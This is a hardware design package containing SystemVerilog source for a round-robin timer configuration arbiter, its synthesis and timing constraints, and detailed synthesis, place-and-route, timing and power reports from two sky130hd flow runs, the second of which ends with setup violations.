File: src/rtl/timer_arb_pkg.sv
// timer_arb_pkg: shared types and constants for the timer configuration arbiter.
// Rev 1.0
`default_nettype none

package timer_arb_pkg;

  typedef enum logic [2:0] {
    IDLE       = 3'd0,
    ISSUE      = 3'd1,
    WAIT_LEAVE = 3'd2,
    WAIT_RET   = 3'd3,
    DONE       = 3'd4
  } state_e;

  localparam logic OP_START = 1'b0;
  localparam logic OP_RESET = 1'b1;
  localparam int   CHAN_W   = 3;

  function automatic logic [7:0] onehot8(input logic [2:0] idx);
    return 8'(1) << idx;
  endfunction

endpackage

`default_nettype wire

File: src/rtl/timer_cfg_arbiter_rr_pick.sv
// rr_pick: combinational round-robin picker, first set request after last_i with wrap.
// Rev 1.0
`default_nettype none

module rr_pick #(
  parameter int N = 4
) (
  input  logic [N-1:0] req_i,
  input  logic [2:0]   last_i,
  output logic         valid_o,
  output logic [2:0]   idx_o
);

  logic [7:0] w_req8;
  logic [3:0] w_cand;

  assign w_req8 = 8'(req_i);

  // Walk candidates farthest-first so the nearest one after last_i overwrites the rest.
  always_comb begin
    valid_o = 1'b0;
    idx_o   = '0;
    w_cand  = '0;
    for (int k = N; k >= 1; k--) begin
      w_cand = {1'b0, last_i} + 4'(k);
      if (w_cand >= 4'(N)) begin
        w_cand = w_cand - 4'(N);
      end
      if (w_req8[w_cand[2:0]]) begin
        valid_o = 1'b1;
        idx_o   = w_cand[2:0];
      end
    end
  end

endmodule

`default_nettype wire

File: src/rtl/timer_cfg_arbiter.sv
// timer_cfg_arbiter: round-robin owner of the timer host configuration port.
// Optional watchdog on host waits: TMR_ARB_TIMEOUT_EN. Rev 1.0
`default_nettype none

module timer_cfg_arbiter
  import timer_arb_pkg::*;
#(
  parameter int REQ_COUNT      = 4,
  parameter int CHAN_COUNT     = 8,
  parameter int TIMEOUT_CYCLES = 1024
) (
  input  logic                    clk,
  input  logic                    rst,
  input  logic [REQ_COUNT-1:0]    req_i,
  input  logic [REQ_COUNT-1:0]    req_op_i,
  input  logic [3*REQ_COUNT-1:0]  req_chan_i,
  input  logic [32*REQ_COUNT-1:0] req_compare_i,
  input  logic [8*REQ_COUNT-1:0]  req_prescale_i,
  output logic [REQ_COUNT-1:0]    ack_o,
  output logic [REQ_COUNT-1:0]    err_o,
  input  logic                    host_idle_i,
  output logic [7:0]              timer_sel_o,
  output logic [31:0]             compare_val_o,
  output logic [7:0]              prescale_val_o,
  output logic                    timer_enable_o,
  output logic                    timer_reset_o,
  output logic                    busy_o,
  output logic [2:0]              grant_id_o
);

  state_e                 state_q;
  logic [2:0]             last_grant_q;
  logic [2:0]             grant_q;
  logic                   op_q;
  logic [7:0]             sel_q;
  logic [31:0]            cmp_q;
  logic [7:0]             psc_q;
  logic                   en_q;
  logic                   rstp_q;
  logic [REQ_COUNT-1:0]   ack_q;
  logic [REQ_COUNT-1:0]   err_q;

  logic                   w_valid;
  logic [2:0]             w_idx;
  logic [7:0]             w_op8;
  logic                   w_op;
  logic [CHAN_W-1:0]      w_chan;
  logic                   w_bad;
  logic [REQ_COUNT-1:0]   w_pick_oh;
  logic [REQ_COUNT-1:0]   w_grant_oh;
  logic                   w_timeout;

  rr_pick #(.N(REQ_COUNT)) u_pick (
    .req_i   (req_i),
    .last_i  (last_grant_q),
    .valid_o (w_valid),
    .idx_o   (w_idx)
  );

  assign w_op8      = 8'(req_op_i);
  assign w_op       = w_op8[w_idx];
  assign w_chan     = req_chan_i[CHAN_W*w_idx +: CHAN_W];
  assign w_bad      = ({1'b0, w_chan} >= 4'(CHAN_COUNT));
  assign w_pick_oh  = REQ_COUNT'(onehot8(w_idx));
  assign w_grant_oh = REQ_COUNT'(onehot8(grant_q));

`ifdef TMR_ARB_TIMEOUT_EN
  logic [15:0] wait_cnt_q;

  // Restarts for each wait phase so each phase gets the full budget.
  always_ff @(posedge clk or posedge rst) begin
    if (rst) begin
      wait_cnt_q <= '0;
    end else if (state_q == ISSUE || (state_q == WAIT_LEAVE && !host_idle_i)) begin
      wait_cnt_q <= '0;
    end else if (state_q == WAIT_LEAVE || state_q == WAIT_RET) begin
      wait_cnt_q <= wait_cnt_q + 16'd1;
    end
  end

  assign w_timeout = (wait_cnt_q == 16'(TIMEOUT_CYCLES - 1));
`else
  assign w_timeout = 1'b0;
  if (TIMEOUT_CYCLES < 1) begin : g_tmo_unused
  end
`endif

  always_ff @(posedge clk or posedge rst) begin
    if (rst) begin
      state_q      <= IDLE;
      last_grant_q <= 3'(REQ_COUNT - 1);
      grant_q      <= '0;
      op_q         <= OP_START;
      sel_q        <= '0;
      cmp_q        <= '0;
      psc_q        <= '0;
      en_q         <= 1'b0;
      rstp_q       <= 1'b0;
      ack_q        <= '0;
      err_q        <= '0;
    end else begin
      en_q   <= 1'b0;
      rstp_q <= 1'b0;
      ack_q  <= '0;
      err_q  <= '0;
      case (state_q)
        IDLE: begin
          if (w_valid && host_idle_i) begin
            grant_q <= w_idx;
            op_q    <= w_op;
            sel_q   <= {5'b0, w_chan};
            cmp_q   <= req_compare_i[32*w_idx +: 32];
            psc_q   <= req_prescale_i[8*w_idx +: 8];
            if (w_bad) begin
              state_q <= DONE;
              ack_q   <= w_pick_oh;
              err_q   <= w_pick_oh;
            end else begin
              state_q <= ISSUE;
              en_q    <= (w_op == OP_START);
              rstp_q  <= (w_op == OP_RESET);
            end
          end
        end
        ISSUE: begin
          if (op_q == OP_RESET) begin
            state_q <= DONE;
            ack_q   <= w_grant_oh;
          end else begin
            state_q <= WAIT_LEAVE;
          end
        end
        WAIT_LEAVE: begin
          if (!host_idle_i) begin
            state_q <= WAIT_RET;
          end else if (w_timeout) begin
            state_q <= DONE;
            ack_q   <= w_grant_oh;
            err_q   <= w_grant_oh;
          end
        end
        WAIT_RET: begin
          if (host_idle_i) begin
            state_q <= DONE;
            ack_q   <= w_grant_oh;
          end else if (w_timeout) begin
            state_q <= DONE;
            ack_q   <= w_grant_oh;
            err_q   <= w_grant_oh;
          end
        end
        DONE: begin
          last_grant_q <= grant_q;
          state_q      <= IDLE;
        end
        default: state_q <= IDLE;
      endcase
    end
  end

  assign ack_o          = ack_q;
  assign err_o          = err_q;
  assign timer_sel_o    = sel_q;
  assign compare_val_o  = cmp_q;
  assign prescale_val_o = psc_q;
  assign timer_enable_o = en_q;
  assign timer_reset_o  = rstp_q;
  assign busy_o         = (state_q != IDLE);
  assign grant_id_o     = grant_q;

endmodule

`default_nettype wire

File: config.mk
export PLATFORM = sky130hd
export DESIGN_NAME = timer_cfg_arbiter
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/timer_arb_pkg.sv /design/src/rtl/timer_cfg_arbiter_rr_pick.sv /design/src/rtl/timer_cfg_arbiter.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export ABC_AREA = 1
export CAP_MARGIN = 20
export CORE_MARGIN = 2
export CORE_UTILIZATION = 41
export DETAILED_ROUTE_END_ITERATION = 8
export GPL_TIMING_DRIVEN = 0
export PLACE_DENSITY = 0.81
export SETUP_SLACK_MARGIN = 0.3
export SKIP_CTS_REPAIR_TIMING = 1
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_HIERARCHICAL = 1
export SYNTH_SLANG_ARGS = --single-unit
File: constraint.sdc
create_clock -name clk -period 2.98 [get_ports clk]
set_input_delay 0.596 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.596 -clock clk [all_outputs]
set_load 0.01 [all_outputs]
# Word level (Yosys, flattened, before mapping)
# Cells that the tools add are included.
[word_totals] reg_bits=59 inputBits=183 out_inout_bits=62
[classes] n_addsub=8 mul=1 magnitude_cmp=9 n_eq_ne=7 n_shift=4 muxes=34 n_bitwise=1 reduce_logical=5
[op_table] operator="$shiftx A128 B9 Y32" n=1
[op_table] operator="$mux W3" n=12
[op_table] operator="$shiftx A32 B7 Y8" n=1
[op_table] operator="$lt A3 B4 Y1 const B" n=5
[op_table] operator="$ge A4 B3 Y1 const B" n=4
[op_table] operator="$bmux W1 S3" n=5
[op_table] operator="$mux W1" n=13
[op_table] operator="$pmux W3 S4" n=1
[op_table] operator="$shiftx A12 B6 Y3" n=1
[op_table] operator="$sub A3 B3 Y3 const B" n=4
[op_table] operator="$add A3 B2 Y4 const B" n=2
[op_table] operator="$mux W4" n=2
[op_table] operator="$pmux W4 S2" n=1
[op_table] operator="$eq A3 B2 Y1 const B" n=2
[op_table] operator="$ne A2 B2 Y1 const B" n=3
[op_table] operator="$mul A2 B3 Y5 const A" n=1
[op_table] operator="$add A3 B1 Y4 const B" n=1
[op_table] operator="$add A3 B3 Y4 const B" n=1
[op_table] operator="$shl A1 B3 Y4 const A" n=1
[op_table] operator="$eq A3 B1 Y1 const B" n=1
[op_table] operator="$eq A3 B3 Y1 const B" n=1
[op_table] operator="$logic_not A3 Y1" n=1
[op_table] operator="$reduce_and A3 Y1" n=1
[op_table] operator="$reduce_bool A3 Y1" n=1
[op_table] operator="other kinds (3)" n=3

# Depth between registers and ports, before layout
# Gate-level depths: netlist of the first run.
[logic_depth] ltp_word=14 ltp_mapped=18 ltp_nobuf=16

# Hierarchy
# Netlist of the first run, hierarchy kept.
[modules_own_cells] mod="timer_cfg_arbiter" n_inst=1 cells_each=785 area_per_inst_um2=4478.0 seq_area_each_um2=1478.9
[modules_own_cells] mod="rr_pick" n_inst=1 cells_each=51 area_per_inst_um2=246.5 seq_area_each_um2=0.0

# Worst setup path before layout of the first run
# OpenSTA, ideal clock, no wires.
[synth_timing] path_type="register -> register" from="reg last_grant_q[0]" to="reg psc_q[0] (netlist: prescale_val_o[0])" arrival_ps=2352 path_slack_ps=512 stages_incl_launch_ff=17 cell_sequence="dfstp_2 -> inv_2 -> ha_1 -> nand3b_1 -> nand3_1 -> or2_0 -> nand3_1 -> nand2_1 -> buf_2 -> inv_2 -> buf_4 -> buf_2 -> nand2_1 -> nand3_1 -> nand2_1 -> nand2_1 -> nand2_1"
[synth_lines] item="start, declared" line="timer_cfg_arbiter.sv:32" source="logic [2:0] last_grant_q;"
[synth_lines] item="start signal, assigned" line="timer_cfg_arbiter.sv:91" source="last_grant_q <= 3'(REQ_COUNT - 1);"
[synth_lines] item="start signal, assigned" line="timer_cfg_arbiter.sv:153" source="last_grant_q <= grant_q;"
[synth_lines] item="$add A3 B3 Y4" line="timer_cfg_arbiter_rr_pick.sv:25" source="w_cand = {1'b0, last_i} + 4'(k);"
[synth_lines] item="$ge A4 B3 Y1 or $sub A3 B3 Y3 (tied branches)" line="timer_cfg_arbiter_rr_pick.sv:26, timer_cfg_arbiter_rr_pick.sv:27"
[synth_lines] item="$mux W3" line="timer_cfg_arbiter_rr_pick.sv:26" source="if (w_cand >= 4'(N)) begin"
[synth_lines] item="$bmux W1 S3" line="timer_cfg_arbiter_rr_pick.sv:29" source="if (w_req8[w_cand[2:0]]) begin"
[synth_lines] item="$mux W1 (not written as such)" line="timer_cfg_arbiter_rr_pick.sv:29"
[synth_lines] item="$mux W3 (3 in a row)" line="timer_cfg_arbiter_rr_pick.sv:29"
[synth_lines] item="$mux W3 (*)" line="timer_cfg_arbiter_rr_pick.sv:29"
[synth_lines] item="net w_idx[0]" line="timer_cfg_arbiter.sv:44" source="logic [2:0] w_idx;"
[synth_lines] item="$shiftx A32 B7 Y8 (*)" line="timer_cfg_arbiter.sv:113" source="psc_q <= req_prescale_i[8*w_idx +: 8];"
[synth_lines] item="end signal, assigned" line="timer_cfg_arbiter.sv:113"
[synth_lines] item="end, declared" line="timer_cfg_arbiter.sv:37" source="logic [7:0] psc_q;"
# Mark *: on every way through the listed nets, which the timed path passes. The rest lies on a longest branch. The select of a mux whose other input is x is not followed.
# A chain may end at the register's enable or synchronous reset.

# Worst setup path in the final report of the first run
[layout_timing] from="reg last_grant_q[0]" to="reg cmp_q[30] (netlist: compare_val_o[30])"
[layout_lines] item="$add A3 B3 Y4" line="timer_cfg_arbiter_rr_pick.sv:25"
[layout_lines] item="$ge A4 B3 Y1 or $sub A3 B3 Y3 (tied branches)" line="timer_cfg_arbiter_rr_pick.sv:26, timer_cfg_arbiter_rr_pick.sv:27"
[layout_lines] item="$mux W3" line="timer_cfg_arbiter_rr_pick.sv:26"
[layout_lines] item="$bmux W1 S3" line="timer_cfg_arbiter_rr_pick.sv:29"
[layout_lines] item="$mux W1 (not written as such)" line="timer_cfg_arbiter_rr_pick.sv:29"
[layout_lines] item="$mux W3 (3 in a row)" line="timer_cfg_arbiter_rr_pick.sv:29"
[layout_lines] item="$mux W3 (*)" line="timer_cfg_arbiter_rr_pick.sv:29"
[layout_lines] item="net w_idx[0]" line="timer_cfg_arbiter.sv:44"
[layout_lines] item="$shiftx A128 B9 Y32 (*)" line="timer_cfg_arbiter.sv:112" source="cmp_q <= req_compare_i[32*w_idx +: 32];"
[layout_lines] item="end signal, assigned" line="timer_cfg_arbiter.sv:112"
[layout_lines] item="end, declared" line="timer_cfg_arbiter.sv:36" source="logic [31:0] cmp_q;"
# Marked as above.

==> results of run 1 <==
[cell type report]
| class | count | area [sq um] |
|---|---|---|
| Tap cell | 143 | 178.9 |
| Clock inverter | 7 | 68.82 |
| Fill cell | 1040 | 3615 |
| Clock buffer | 9 | 225.2 |
| Timing Repair Buffer | 239 | 2395 |
| Buffer | 47 | 334.1 |
| Sequential cell | 59 | 1479 |
| Multi-Input combinational cell | 542 | 2282 |
| Inverter | 196 | 743.2 |
[synth_stat cells (all sizes together) (4+ instances only)]
| master | n |
|---|---|
| nor2 | 7 |
| nor3 | 4 |
| o21ai | 8 |
| buf | 34 |
| clkbuf | 13 |
| nand3 | 110 |
| inv | 195 |
| nand2 | 394 |
| dfrtp | 57 |
[placed cells by master (no fill, tap or decap), drive strengths merged]
cell / netlist / layout
a211oi: 1 / 1
clkinvlp: 0 / 2
or2: 1 / 1
a21oi: 1 / 1
clkinv: 1 / 5
nor2: 7 / 7
bufinv: 0 / 1
nand2: 394 / 394
nand3: 110 / 110
dfstp: 2 / 2
clkbuf: 13 / 24
nand3b: 1 / 1
nand4: 1 / 1
clkdlybuf4s50: 0 / 235
ha: 2 / 2
o211ai: 2 / 2
buf: 34 / 36
dfrtp: 57 / 57
inv: 195 / 195
o21ai: 8 / 8
nor3: 4 / 4
conb: 2 / 10
[registers in the layout, summed over array words and instances (netlist names)]
| signal | flops |
|---|---|
| state_q | 3 |
| timer_enable_o | 1 |
| grant_id_o | 3 |
| op_q | 1 |
| compare_val_o | 32 |
| ack_o | 4 |
| last_grant_q | 3 |
| timer_sel_o | 3 |
| prescale_val_o | 8 |
| timer_reset_o | 1 |
[worst register-to-register path, cell delays in order, from the launching register on]
cell and delay, ns:
dfstp_2 0.59, inv_4 0.08, ha_4 0.30, nand3b_1 0.13, nand3_2 0.10, or2_0 0.23
nand3_1 0.06, nand2_1 0.06, buf_4 0.18, inv_6 0.10, clkbuf_2 0.24, nand2_1 0.08
nand3_1 0.09, nand2_1 0.07, nand2_1 0.06, nand2_1 0.05
[routing by layer]
metal / GRT usage / part of all wire / up-vias
met4: 0.09136 / 0.031 / 2
met3: 0.04464 / 0.063 / 37
li1: - / - / 2925
met5: 0 / 0.00095 / -
met2: 0.4390 / 0.49 / 210
met1: 0.3096 / 0.41 / 2469
[cell families (layout without fill, tap and decap cells)]
kind of cell / count (synthesis) / count (layout) / share of synthesized area
AOI/OAI and AO/OA: 12 / 12 / 0.01536
adders and majority gates: 2 / 2 / 0.005296
other: 2 / 10 / 0.001590
and+or+nand+nor: 518 / 518 / 0.4507
DFF: 59 / 59 / 0.3130
buffers and inverters: 243 / 498 / 0.2140
[path summary, 6_finish.rpt]
path	endpoint	start
max	compare_val_o[30]$_DFFE_PP0P_	last_grant_q[0]$_DFFE_PP1N_
min	prescale_val_o[6]$_DFFE_PP0P_	prescale_val_o[6]$_DFFE_PP0P_
max reg2reg	compare_val_o[30]$_DFFE_PP0P_	last_grant_q[0]$_DFFE_PP1N_
min reg2reg	prescale_val_o[6]$_DFFE_PP0P_	prescale_val_o[6]$_DFFE_PP0P_
max in group asynchronous	last_grant_q[1]$_DFFE_PP1N_	rst
min in group asynchronous	compare_val_o[23]$_DFFE_PP0P_	rst
[report_power, final]
group / internal, mW / switching, mW / total, mW
registers: 1.09 / 0.191 / 1.28
clock network: 0.643 / 0.380 / 1.02
logic: 2.42 / 3.71 / 6.13
total: 4.15 / 4.28 / 8.43
[through the flow]
stage	instances	setup TNS (ns)	setup slack [ns]
floorplan	844	0	0.5117
detailed placement	1223	0	0.04825
finish	1242	0	0.4483
global placement	1222	-14.72	-0.2616
CTS	1239	0	0.06050
global route	1242	0	0.2734
==> run metrics, run 1 <==
status=finished, final reports clean; Clock Path Buffers=2; Hold Fails Final Rpt=0; Final min period=2.532 ns; Finished Cell Area=7706 sq um; slowest cell on the critical path=dfstp_2; Crit path required time=3.18 ns; nets=1,279; relative slew slack=0.5315; top cells by area, synth=nand2_1 31%, dfrtp_1 30%, inv_1 15%, nand3_1 12%, buf_4 1.9%; Worst path most repeated cell=nand2_1; Avg WL per Cell=12.65 um; num ports=245; Max Cap Viol=0; die height=111.3 um; CTS H-Tree Depth=3; Post-DRT Antenna Nets=0; crit-path max cell delay=0.59 ns; Crit path depth=15; Total Power=8.434 mW; Detailed Routing Iterations Pass 1=6; Post-Syn Area=4725 sq um; Worst Hold Depth=2; FP Rows=39; final period utilization=0.8496; Yosys cell types=28; Ant. Diodes=0; Clk Latency, worst-skew pair=0.32 ns; crit path cell chain=inv_4 > ha_4 > nand3b_1 > nand3_2 > or2_0 > nand3_1 > nand2_1 > buf_4 > inv_6 > clkbuf_2 > nand2_1 > nand3_1 > nand2_1 > nand2_1 > nand2_1; Core ar.=11,320 sq um; flop2flop setup slack=0.45 ns; Top FF cell, synth=dfrtp_1; Area Overhead vs Synth=63.11%; worst-path fanout max=10; worst r2r path cells=15; Cells after Synth=836; Buf+Inv Stages, Crit Path=4; Root Driver=clkbuf_16; first-pass GRT wire length=25.41 mm; clock slew at reported path FFs=0.06 ns; pwr/cell area=1094 nW/um^2; RSZ-0062 raised after global routing=yes; Synth area leader=nand2_1; largest net degree at the start of global routing=33; CTS tree=done; gr ovfl total=0; Slew Limit Fails=0; Data arrival, critical path=2.74 ns; Total Die Area=12,400 sq um; Setup Crit Path Kind=flop to flop; final setup vio count=0; post-synthesis register bit count=59; worst min path class=flop to flop; CTS Buf Count=9; vias in the first global route=5,312; Peak VDD IR=708.0 uV; initial antenna violation count=1; Synth warnings=6; critical path launch point type=flop; layout cells sized above 1=0.07097; Crit path max-delay family=simple AND/OR/NAND/NOR gates; WL final=15.71 mm; post-synthesis sequential area ratio=0.3130; syn_area_per_cell=5.651 sq um; DRT iter0 DRCs=295; Port Buffers=235; fmax=395.0 MHz; DP HPWL=12.13 mm; DRC=0; Post-DP Area=7306 sq um; utilization after layout=0.6807; top cell type's share of synthesized area=0.3122; number of enable flip-flop cells after synthesis=0; GRT Overall Usage=0.2505; Die X=111.3 um; Hold WS=0.4759 ns; drt via density=4.543; routability cong.=0.8432; Via Count=5,643; Worst Setup End Kind=flop; clk sinks=59; Leak=4.481 nW; post-synthesis async set-or-reset flop share=1.000; Worst Skew=0.007210 ns; Initial Util=0.4173; Worst-Margin Slew=0.7017 ns
Note: power is estimated with default switching activity, not from simulation.
==> inputs of run 2 (changes only) <==
CORE_UTILIZATION = 37   (was 41)
PLACE_DENSITY = 0.77   (was 0.81)
clock period = 2.3 ns   (was 2.98 ns; I/O delays follow)
==> run metrics, run 2 (synthesis gave the netlist of run 1 again) <==
worst-path fanout max=9; critical path launch point type=flop; Via Count=5,745; FP Rows=41; Detailed Routing Iterations Pass 1=5; failing checks=negative setup slack; Slew Limit Fails=0; Core ar.=12,570 sq um; placed cells=1,252; Total Die Area=13,690 sq um; final setup vio count=46; setup TNS=-3.422 ns; num ports=245; crit-path max cell delay=0.57 ns; Hold WS=0.4703 ns; WL met1=7.027 mm; Multi-input gate area=2308 sq um; clock slew at reported path FFs=0.05 ns; status=finished with violations; CTS Buf Count=9; Flop pwr share=0.131; gr ovfl total=0; initial antenna violation count=0; slowest cell on the critical path=dfstp_2; pwr/cell area=1563 nW/um^2; combinational fraction of design power=0.754; GRT Overall Usage=0.2380; most frequent cells in the layout=390 x nand2_1, 235 x clkdlybuf4s50_1, 188 x inv_1; fmax=409.3 MHz; Final min period=2.443 ns; nets=1,298; routed wl met2=8.126 mm; clk sinks=59; layout cells sized above 1=0.09571; Max Cap Viol=0; Hold Fails Final Rpt=0; DRT iter0 DRCs=325; Root Driver=clkbuf_16; Worst Setup End Kind=flop; Avg WL per Cell=12.93 um; Peak VDD IR=820.9 uV; clock power share=0.115; Crit path max-delay family=simple AND/OR/NAND/NOR gates; Clk Latency, worst-skew pair=0.33 ns; most common cell after layout, fill and taps aside=nand2_1; Crit path required time=2.52 ns; Die X=117 um; final period utilization=1.062; DRC=0; WL final=16.69 mm; DP HPWL=12.37 mm; Worst path most repeated cell=nand2_1; first-pass GRT wire length=25.26 mm; PnR worst setup slack=-0.1431 ns; final cell count without fillers=1,290; Clock Path Buffers=2; Worst Skew=0.006240 ns; crit path cell chain=inv_4 > ha_4 > nand3b_1 > nand3_2 > or2_0 > nand3_1 > nand2_2 > buf_12 > clkinv_8 > buf_8 > clkbuf_16 > nand2_1 > nand3_1 > nand2_1 > nand2_1 > nand2_1; routability cong.=0.8882; # fillers=1,156; topmost layer with routed signal wires=met4; Internal Power=6.753 mW; worst min path class=input port to async pin; Leak=4.686 nW; largest net degree at the start of global routing=41; drt via density=4.453; Setup Crit Path Kind=flop to flop; vias in the first global route=5,395; CTS H-Tree Depth=3; Switching Fraction=0.4730; FF/Latch Area=1480 sq um; Area Overhead vs Synth=73.49%; Initial Util=0.3759; Post-DRT Antenna Nets=0; Port Buffers=235; die height=117 um; RSZ-0062 raised after global routing=yes; Data arrival, critical path=2.66 ns; Ant. Diodes=0; wire length on met3=1.035 mm; Buf+Inv Stages, Crit Path=5; max reg flops=32; switching pwr=6.060 mW; CTS tree=done
## run 2: cell types whose count changed in the layout (fill, tap and decap cells not counted), moves of 4 or more
cell	previous run	this run
buf_12	1	5
buf_2	8	2
buf_4	15	29
buf_6	8	15
buf_8	2	6
clkbuf_16	9	13
clkbuf_2	13	4
## run 2: metal layers
metal	vias to the layer above	track usage
met3	38	0.04943
met5	-	0
met4	0	0.1051
met2	203	0.4035
li1	2964	-
met1	2540	0.2927
## run 2: power groups by stage
| stage | registers (mW) | logic [mW] | clock network (mW) |
|---|---|---|---|
| 2_1_floorplan | 1.78 | 5.23 | 0 |
| 3_3_place_gp | 1.68 | 7.90 | 0 |
| 3_5_place_dp | 1.68 | 8.00 | 0 |
| 4_1_cts | 1.67 | 8.03 | 1.50 |
| 5_1_grt | 1.72 | 10.7 | 1.55 |
| 6_report | 1.68 | 9.66 | 1.47 |
## run 2: final cells by class
| class | count | share of cell area |
|---|---|---|
| Timing Repair Buffer | 257 | 0.3192 |
| Clock buffer | 12 | 0.03129 |
| Buffer | 47 | 0.05770 |
| Clock inverter | 4 | 0.008854 |
| Multi-Input combinational cell | 542 | 0.2816 |
| Inverter | 196 | 0.09250 |
| Sequential cell | 59 | 0.1806 |
| Tap cell | 172 | 0.02626 |
| Timing Repair inverter | 1 | 0.001984 |
## run 2: worst register-to-register path: stages (launching register included)
cell and delay (ns):
dfstp_2 0.57, inv_4 0.07, ha_4 0.29, nand3b_1 0.12
nand3_2 0.11, or2_0 0.23, nand3_1 0.09, nand2_2 0.08
buf_12 0.16, clkinv_8 0.06, buf_8 0.13, clkbuf_16 0.15
nand2_1 0.06, nand3_1 0.06, nand2_1 0.05, nand2_1 0.06
nand2_1 0.04
## run 2: through the flow
step	area [sq um]	setup slack [ns]	util	power, mW
2_1_floorplan	4846	0.08496	-	7.018
3_3_place_gp	7413	-0.7760	0.5898	9.577
3_5_place_dp	7433	-0.3353	0.5914	9.680
4_1_cts	7762	-0.3381	0.6176	11.21
5_1_grt	8197	-0.2755	0.6522	13.93
6_report	8197	-0.1431	0.6522	12.81
## run 2: final timing paths
check / startpoint / to / slack (ns) / cells past startpoint
max: last_grant_q[0]$_DFFE_PP1N_ / timer_sel_o[1]$_DFFE_PP0P_ / -0.14 / 16
min: rst / compare_val_o[14]$_DFFE_PP0P_ / 0.47 / 2
max reg2reg: last_grant_q[0]$_DFFE_PP1N_ / timer_sel_o[1]$_DFFE_PP0P_ / -0.14 / 16
min reg2reg: compare_val_o[27]$_DFFE_PP0P_ / compare_val_o[27]$_DFFE_PP0P_ / 0.47 / 2
max in group asynchronous: rst / last_grant_q[0]$_DFFE_PP1N_ / 1.20 / 3
min in group clk: compare_val_o[27]$_DFFE_PP0P_ / compare_val_o[27]$_DFFE_PP0P_ / 0.47 / 2
